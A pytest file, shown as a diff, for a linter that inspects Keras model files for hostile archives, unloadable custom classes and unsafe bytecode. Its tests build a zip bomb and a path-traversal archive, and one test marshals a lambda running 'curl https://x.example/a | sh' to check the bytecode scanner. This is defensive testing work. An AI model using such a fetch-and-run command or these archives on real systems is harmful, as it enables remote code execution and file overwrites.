@@ -1,0 +1,398 @@
+"""Model files without Keras (issue 23): the reader's guards (hostile archives, wrong magic,
+missing h5py), the CLI's output for them in every format, --explain, the target, the mapping to the
+project's source, and the bytecode reader. The files are written here with the stdlib (zipfile,
+json) and h5py, in Keras's own layout (research/saved-model-files.md section 1); what real Keras
+does with each is proven by tests/test_model_files_matrix.py."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+import zipfile
+
+import pytest
+
+from keras_lint import api
+from keras_lint.cli import main
+from keras_lint.model_files import CHECKS, Loader, check_model_file, read_model_file, resolve_loader, sniff
+from keras_lint.model_files import bytecode
+
+KERAS3 = Loader("keras3", "3.15.1", "test")
+
+
+def layer(class_name, module="keras.layers", registered_name=None, **config):
+    return {"module": module, "class_name": class_name, "config": {"name": class_name.lower(), **config},
+            "registered_name": registered_name, "build_config": {"input_shape": [None, 4]}}
+
+
+def functional(*layers, compile_config=None):
+    model = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
+             "config": {"name": "functional", "layers": [layer("InputLayer", batch_shape=[None, 4]), *layers]}}
+    if compile_config is not None:
+        model["compile_config"] = compile_config
+    return model
+
+
+def write_keras(path, config, version="3.15.1", members=()):
+    with zipfile.ZipFile(path, "w") as archive:  # ZIP_STORED, as Keras writes
+        archive.writestr("metadata.json", json.dumps({"keras_version": version, "date_saved": "2026-12-06@21:47:06"}))
+        archive.writestr("config.json", json.dumps(config))
+        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
+        for name, data in members:
+            archive.writestr(name, data)
+    return str(path)
+
+
+UNREG = layer("UnregLayer", module="mylib.layers", registered_name="UnregLayer", units=3)
+
+
+# -- hostile and broken files: one clear finding each, nothing written ------------------------------
+
+
+def _hostile_files(folder):
+    bomb = folder / "bomb.keras"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
+        archive.writestr("config.json", json.dumps(functional()))
+        archive.writestr("model.weights.h5", bytes(40 * 1024 * 1024))  # 40 MB of zeros in ~40 KB
+    traversal = write_keras(folder / "traversal.keras", functional(), members=[("../../evil.txt", b"pwned")])
+    good = write_keras(folder / "good.keras", functional())
+    data = open(good, "rb").read()
+    (folder / "truncated.keras").write_bytes(data[: len(data) // 2])
+    (folder / "magic.keras").write_bytes(b"GIF89a" + bytes(100))
+    os.remove(good)
+    return {"bomb.keras": "zip bomb", "traversal.keras": "path traversal", "truncated.keras": "truncated",
+            "magic.keras": "neither a `.keras` zip nor HDF5"}
+
+
+def test_each_hostile_or_broken_archive_is_one_clear_finding_and_nothing_is_written(project, capsys):
+    folder = project / "models"
+    folder.mkdir()
+    expected = _hostile_files(folder)
+    before = sorted(p.name for p in project.rglob("*")) + sorted(os.listdir(project.parent))
+    assert main(["--no-cache", "models"]) == 1
+    out = capsys.readouterr().out.splitlines()
+    assert len(out) == len(expected)
+    for line in out:
+        name = line.split(":")[0].split("/")[-1]
+        assert expected[name] in line, line
+        assert (" KL603 " in line) == (name in ("bomb.keras", "traversal.keras")), line
+        assert (" KL601 " in line) == (name in ("truncated.keras", "magic.keras")), line
+    assert sorted(p.name for p in project.rglob("*")) + sorted(os.listdir(project.parent)) == before
+
+
+# -- the CLI: formats, exit codes, folders, explain ---------------------------------------------------
+
+
+def test_cli_reports_the_json_path_in_every_format(project, capsys):
+    write_keras(project / "model.keras", functional(functional(layer("Dense", units=2), UNREG)))
+    path = "config.layers[1].config.layers[2]"
+    assert main(["model.keras"]) == 1
+    captured = capsys.readouterr()
+    assert captured.out.startswith(f"model.keras:1:1: KL610 {path}: class `UnregLayer`, saved unregistered")
+    assert "Model files judged for loading by Keras" in captured.err
+    main(["--format", "json", "model.keras"])
+    (record,) = json.loads(capsys.readouterr().out)
+    assert record["code"] == "KL610" and record["name"] == "unresolvable-custom-class"
+    assert record["message"].startswith(path + ": ")
+    main(["--format", "sarif", "model.keras"])
+    sarif = json.loads(capsys.readouterr().out)
+    (result,) = sarif["runs"][0]["results"]
+    rules = sarif["runs"][0]["tool"]["driver"]["rules"]
+    assert result["ruleId"] == "KL610" and rules[result["ruleIndex"]]["id"] == "KL610"
+    assert result["message"]["text"].startswith(path)
+    main(["--format", "github", "model.keras"])
+    assert capsys.readouterr().out.startswith("::error title=keras-lint (KL610 unresolvable-custom-class),file=model.keras,line=1")
+    assert main(["--exit-zero", "model.keras"]) == 0
+    assert main(["--ignore", "KL610", "model.keras"]) == 0
+
+
+def test_clean_model_files_and_folders(project, capsys):
+    (project / "models").mkdir()
+    write_keras(project / "models" / "ok.keras", functional(layer("Dense", units=2, activation="relu")))
+    savedmodel = project / "models" / "export"
+    savedmodel.mkdir()
+    (savedmodel / "saved_model.pb").write_bytes(b"\x08\x01")
+    (project / "train.py").write_text("import keras\n")
+    assert main(["--select", "KL6", "."]) == 1  # the SavedModel folder is found and judged (Keras 3 installed)
+    out = capsys.readouterr()
+    assert out.out.splitlines() == [
+        "models/export:1:1: KL632 a TensorFlow SavedModel folder: Keras 3's load_model refuses it ('File format not "
+        "supported'); load it with tf_keras, or wrap it in keras.layers.TFSMLayer for inference"]
+    assert "Found 1 finding in 3 files." in out.err
+    (savedmodel / "saved_model.pb").unlink()
+    savedmodel.rmdir()
+    assert main(["--select", "KL6", "."]) == 0
+
+
+def test_explain_and_list_every_model_file_check(capsys):
+    assert len(CHECKS) >= 15 and all(code.startswith("KL6") for code in CHECKS)
+    for code, check in CHECKS.items():
+        assert main(["--explain", code.lower()]) == 0
+        out = capsys.readouterr().out
+        assert out.startswith(f"{code} {check.name}\n\n{check.summary}\n\n## What it does")
+        assert "## Why is this bad?" in out and "## Use instead" in out
+    main(["--list-rules"])
+    listed = capsys.readouterr().out
+    assert all(f"{code}  {check.name}" in listed for code, check in CHECKS.items())
+
+
+# -- formats ------------------------------------------------------------------------------------------
+
+
+def test_format_is_read_from_content_not_extension(tmp_path):
+    h5py = pytest.importorskip("h5py")  # installed with TensorFlow, the test extra
+    h5 = tmp_path / "model.keras"
+    with h5py.File(h5, "w") as handle:
+        handle.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": {"layers": []}})
+        handle.attrs["keras_version"] = "3.15.1"
+    assert sniff(str(h5)) == "h5"
+    assert [(v.code, v.fails) for v in check_model_file(str(h5), KERAS3)] == [("KL602", True)]
+    weights = tmp_path / "w.weights.h5"
+    with h5py.File(weights, "w") as handle:  # Keras 3's save_weights layout
+        handle.create_group("layers")
+        handle.create_group("vars")
+    assert [v.code for v in check_model_file(str(weights), KERAS3)] == ["KL604"]
+    zipped = write_keras(tmp_path / "model.h5", functional())
+    assert [v.code for v in check_model_file(zipped, KERAS3)] == ["KL602"]
+
+
+def test_missing_h5py_is_one_clear_error_and_the_run_goes_on(project, monkeypatch, capsys):
+    (project / "model.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(100))
+    write_keras(project / "other.keras", functional(UNREG))
+    monkeypatch.setitem(sys.modules, "h5py", None)
+    assert main(["model.h5", "other.keras"]) == 2
+    captured = capsys.readouterr()
+    assert "keras-lint: error: model.h5: h5py is needed to read HDF5 model files: pip install keras-lint[h5]" in captured.err
+    assert "other.keras:1:1: KL610" in captured.out
+
+
+def _field(number, payload: bytes) -> bytes:
+    size, out = len(payload), b""
+    while True:
+        byte = size & 0x7F
+        size >>= 7
+        out += bytes([byte | (0x80 if size else 0)])
+        if not size:
+            break
+    return bytes([number << 3 | 2]) + out + payload
+
+
+def test_savedmodel_keras_metadata_is_read_with_the_wire_reader(tmp_path):
+    folder = tmp_path / "export"
+    folder.mkdir()
+    (folder / "saved_model.pb").write_bytes(b"")
+    root = {"class_name": "Functional", "keras_version": "2.21.0", "backend": "tensorflow",
+            "model_config": {"class_name": "Functional", "config": {"layers": [
+                {"class_name": "Lambda", "config": {"function": {"class_name": "__tuple__", "items": [
+                    bytecode_of_py311(), None, None]}, "function_type": "lambda"}}]}},
+            "training_config": {"loss": "my_loss"}}
+    node = _field(3, b"root") + _field(4, b"_tf_keras_network") + _field(5, json.dumps(root).encode())
+    (folder / "keras_metadata.pb").write_bytes(_field(1, node))
+    model = read_model_file(str(folder))
+    assert (model.kind, model.keras_version, model.config_key) == ("savedmodel", "2.21.0", "model_config")
+    verdicts = check_model_file(str(folder), Loader("tf_keras", "2.21.0"))
+    assert [(v.code, v.where, v.fails) for v in verdicts] == [
+        ("KL623", "model_config.config.layers[0].config.function", False),
+        ("KL611", "training_config.loss", True)]
+    assert [v.code for v in check_model_file(str(folder), KERAS3)] == ["KL632"]
+
+
+def bytecode_of_py311():
+    return "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yBgAAAAMAAABzCgAAAIAAiEGQA4lHgADzAAAAAA=="
+
+
+# -- the walk reaches every nested config -----------------------------------------------------------
+
+
+def test_every_nested_place_is_walked(tmp_path):
+    schedule = {"module": "mylib.schedules", "class_name": "MySchedule", "config": {}, "registered_name": "mylib>MySchedule"}
+    optimizer = {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": schedule}, "registered_name": None}
+    wrapper = layer("TimeDistributed", layer=UNREG)
+    custom = layer("Holder", module="mylib.layers", registered_name="mylib>Holder",
+                   inner={"any_key": [layer("Inner", module="mylib.layers", registered_name="Inner")]})
+    metric = {"module": "builtins", "class_name": "function", "config": "my_metric", "registered_name": "function"}
+    config = functional(wrapper, custom, compile_config={"optimizer": optimizer, "loss": "mse", "metrics": [metric]})
+    path = write_keras(tmp_path / "m.keras", config)
+    found = [(v.code, v.where) for v in check_model_file(path, KERAS3)]
+    assert found == [
+        ("KL610", "config.layers[1].config.layer"),
+        ("KL610", "config.layers[2]"),
+        ("KL610", "config.layers[2].config.inner.any_key[0]"),
+        ("KL610", "compile_config.optimizer.config.learning_rate"),
+        ("KL611", "compile_config.metrics[0]"),
+    ]
+    no_compile = Loader("keras3", "3.15.1", compile=False)
+    assert [v.where for v in check_model_file(path, no_compile)] == [w for _, w in found[:3]]
+
+
+# -- the project's source ----------------------------------------------------------------------------
+
+
+def test_findings_say_where_the_project_defines_what_the_file_needs(project, capsys):
+    (project / "mylib").mkdir()
+    (project / "mylib" / "__init__.py").write_text("")
+    (project / "mylib" / "layers.py").write_text(
+        "import keras\n\n"
+        "@keras.saving.register_keras_serializable(package='mylib')\n"
+        "class Registered(keras.layers.Layer):\n    pass\n\n"
+        "@keras.saving.register_keras_serializable(package='other')\n"
+        "class Moved(keras.layers.Layer):\n    pass\n\n"
+        "class Plain(keras.layers.Layer):\n    pass\n\n"
+        "def act(x):\n    return x\n"
+    )
+    config = functional(
+        layer("Registered", module="mylib.layers", registered_name="mylib>Registered"),
+        layer("Moved", module="mylib.layers", registered_name="mylib>Moved"),
+        layer("Plain", module="mylib.layers", registered_name="Plain"),
+        layer("Dense", units=2, activation={"module": "builtins", "class_name": "function", "config": "act",
+                                            "registered_name": "function"}),
+        layer("Gone", module="elsewhere", registered_name="pkg>Gone"),
+    )
+    write_keras(project / "model.keras", config)
+    assert main(["--no-cache", "--select", "KL6", "model.keras"]) == 1
+    lines = capsys.readouterr().out.splitlines()
+    assert len(lines) == 4  # Registered resolves: the project registers mylib>Registered
+    assert "config.layers[2]: class registered as `mylib>Moved` when saved, registered as `other>Moved` at mylib/layers.py:8" in lines[0]
+    assert "config.layers[3]: class `Plain`, saved unregistered" in lines[1]
+    assert "defined at mylib/layers.py:11: load with custom_objects={'Plain': mylib.layers.Plain}" in lines[1]
+    assert "config.layers[5]: class registered as `pkg>Gone` when saved, not defined in this project" in lines[2]
+    assert "KL611 config.layers[4].config.activation: function `act`" in lines[3] and "mylib/layers.py:14" in lines[3]
+
+
+# -- the target --------------------------------------------------------------------------------------
+
+
+def test_the_target_is_declared_else_installed_else_newest(tmp_path, monkeypatch):
+    monkeypatch.delenv("TF_USE_LEGACY_KERAS", raising=False)
+    (tmp_path / "requirements.txt").write_text("tensorflow==2.15.0\n")
+    declared = resolve_loader(str(tmp_path))
+    assert (declared.line, declared.version) == ("tf_keras", "2.15") and declared.why.startswith("declared")
+    (tmp_path / "requirements.txt").write_text("keras==3.8.0\n")
+    assert (resolve_loader(str(tmp_path)).line, resolve_loader(str(tmp_path)).version) == ("keras3", "3.8")
+    (tmp_path / "requirements.txt").unlink()
+    from importlib import metadata
+
+    installed = resolve_loader(str(tmp_path))
+    assert (installed.line, installed.version, installed.why) == ("keras3", metadata.version("keras"), "installed")
+
+    def absent(name):
+        raise metadata.PackageNotFoundError(name)
+
+    monkeypatch.setattr(metadata, "version", absent)
+    newest = resolve_loader(str(tmp_path))
+    assert newest.line == "keras3" and "newest" in newest.why
+
+
+def test_a_keras2_file_is_judged_by_the_loader_it_meets(tmp_path):
+    tk = functional(layer("Dense", units=2))
+    tk["module"] = "tf_keras.src.engine.functional"
+    path = write_keras(tmp_path / "tk.keras", tk, version="2.21.0")
+    assert [(v.code, v.where, v.fails) for v in check_model_file(path, KERAS3)] == [("KL630", "", True)]
+    assert check_model_file(path, Loader("tf_keras", "2.21.0")) == []
+    k3 = write_keras(tmp_path / "k3.keras", functional())
+    assert [v.code for v in check_model_file(k3, Loader("tf_keras", "2.21.0"))] == ["KL631"]
+
+
+def test_non_modeling_api_is_a_gadget(tmp_path):
+    gadget = {"module": "keras.saving", "class_name": "load_model", "config": {"filepath": "x"}, "registered_name": None}
+    path = write_keras(tmp_path / "m.keras", functional(layer("Dense", units=2, kernel_initializer=gadget)))
+    assert [(v.code, v.where) for v in check_model_file(path, KERAS3)] == [("KL640", "config.layers[1].config.kernel_initializer")]
+
+
+# -- the bytecode reader -----------------------------------------------------------------------------
+
+# `lambda t: t * 2.0` marshalled by CPython 3.8.18, 3.10.13, 3.12.1 and 3.13.0.
+BYTECODE = {
+    "3.8-3.10": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7nAAAAAAAAAECpACkB2gF0cgIAAAByAgAAANoIPHN0cmluZz7aCDxsYW1iZGE+AwAAAPMAAAAA",
+                 "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7nAAAAAAAAAECpACkB2gF0cgIAAAByAgAAANoIPHN0cmluZz7aCDxsYW1iZGE+AwAAAHMCAAAACAA="],
+    "3.11-3.12": ["4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yBgAAAAMAAABzCgAAAIAAiEGQA4lHgADzAAAAAA=="],
+    "3.13+": ["4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACVAFUAUwEtBQAAJAApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg2gg8c3RyaW5nPtoIPGxhbWJkYT5yBgAAAAMAAABzCAAAAIAAiEGQA4pH8wAAAAA="],
+}
+
+
+def test_bytecode_family_and_names_are_read_without_unmarshalling():
+    import marshal
+
+    for family, codes in BYTECODE.items():
+        for code in codes:
+            assert bytecode.family(bytecode.decode(code)) == family
+    here = bytecode.running_family(sys.version_info)
+    assert bytecode.family(marshal.dumps((lambda t: t).__code__)) == here
+    evil = marshal.dumps((lambda t: __import__("os").system("curl https://x.example/a | sh") or t).__code__)
+    assert bytecode.suspicious_names(evil) == ["__import__", "curl https://x.example/a | sh", "os", "system"]
+    assert bytecode.suspicious_names(marshal.dumps((lambda t: t * 2).__code__)) == []
+    assert bytecode.family(b"not code at all, just bytes in a row") is None
+
+
+def test_split_model_files_keeps_python_targets():
+    targets, models = api.split_model_files(["a.py", "m.keras"], ["a.py", "m.keras"], api.make_settings(["."]))
+    assert (targets, models) == (["a.py"], ["m.keras"])
+
+
+def test_the_readme_lists_every_model_file_check():
+    from conftest import ROOT
+
+    with open(os.path.join(ROOT, "README.md"), encoding="utf-8") as handle:
+        text = handle.read().split("## Model files", 1)[1].split("\n## ", 1)[0]
+    rows = [line.split(" | ")[:2] for line in text.splitlines() if line.startswith("| KL6")]
+    assert [(code.strip("| "), name) for code, name in rows] == [(code, check.name) for code, check in CHECKS.items()]
+
+
+def test_a_folder_walk_skips_data_hdf5_and_excluded_files(project, capsys):
+    h5py = pytest.importorskip("h5py")
+    (project / "data").mkdir()
+    with h5py.File(project / "data" / "images.h5", "w") as handle:
+        handle.create_dataset("x", data=[1, 2, 3])
+    with h5py.File(project / "data" / "w.weights.h5", "w") as handle:  # Keras 3's save_weights layout
+        handle.create_group("layers")
+        handle.create_group("vars")
+    write_keras(project / "data" / "old.keras", functional(UNREG))
+    (project / "setup.cfg").write_text("[metadata]\nname = sample\n[keras-lint]\nextend-exclude = old.keras\n")
+    assert main(["--no-cache", "--select", "KL6", "."]) == 1
+    assert [line.split(":")[0] + " " + line.split()[1] for line in capsys.readouterr().out.splitlines()] == [
+        "data/w.weights.h5 KL604"]
+    # named (as pre-commit's hook names every .h5): neither a model nor Python, so nothing to say
+    assert main(["--no-cache", "data/images.h5"]) == 0
+    assert capsys.readouterr().out == ""
+    assert [v.code for v in check_model_file(str(project / "data" / "images.h5"), KERAS3)] == ["KL601"]
+    assert main(["--no-cache", "--select", "KL6", "data/old.keras"]) == 0  # named, but excluded (as pre-commit names it)
+
+
+def test_keras_before_3_9_imports_the_module_of_an_unregistered_class(tmp_path):
+    path = write_keras(tmp_path / "m.keras", functional(UNREG))
+    (old,) = check_model_file(path, Loader("keras3", "3.8"))
+    assert (old.code, old.fails) == ("KL610", False) and "imports `mylib.layers`" in old.message
+    (new,) = check_model_file(path, Loader("keras3", "3.9"))
+    assert (new.code, new.fails) == ("KL610", True)
+
+
+def test_a_load_model_call_naming_the_file_is_how_it_is_judged_and_where_it_is_reported(project, capsys):
+    (project / "models").mkdir()
+    config = functional(UNREG, compile_config={"loss": {"module": "builtins", "class_name": "function",
+                                                        "config": "my_loss", "registered_name": "function"}})
+    write_keras(project / "models" / "best.keras", config)
+    (project / "serve.py").write_text(
+        "import keras\n\n"
+        "def serve():\n"
+        "    return keras.models.load_model('models/best.keras', compile=False)\n"
+    )
+    assert main(["--no-cache", "--select", "KL6", "models/best.keras"]) == 1
+    lines = capsys.readouterr().out.splitlines()
+    # compile=False: the loss no longer matters; the class still fails, here and at the call
+    assert [line.split(": ")[0] + " " + line.split()[1] for line in lines] == [
+        "models/best.keras:1:1 KL610", "serve.py:4:12 KL610"]
+    assert "load_model('models/best.keras') will fail: models/best.keras at config.layers[1]: class `UnregLayer`" in lines[1]
+    (project / "serve.py").write_text(
+        "from keras.models import load_model\nfrom mylib import UnregLayer\n"
+        "model = load_model('models/best.keras', custom_objects={'UnregLayer': UnregLayer})\n"
+    )
+    assert main(["--no-cache", "--select", "KL6", "models/best.keras"]) == 1
+    lines = capsys.readouterr().out.splitlines()
+    assert [line.split(": ")[0] + " " + line.split()[1] for line in lines] == [
+        "models/best.keras:1:1 KL611", "serve.py:3:9 KL611"]
+    assert "compile_config.loss: function `my_loss`" in lines[0]
+    (project / "serve.py").write_text("import mylib\nmodel = mylib.load_model('models/best.keras')\n")  # not Keras's
+    main(["--no-cache", "--select", "KL6", "models/best.keras"])
+    assert [line.split(": ")[0] for line in capsys.readouterr().out.splitlines()] == ["models/best.keras:1:1"] * 2
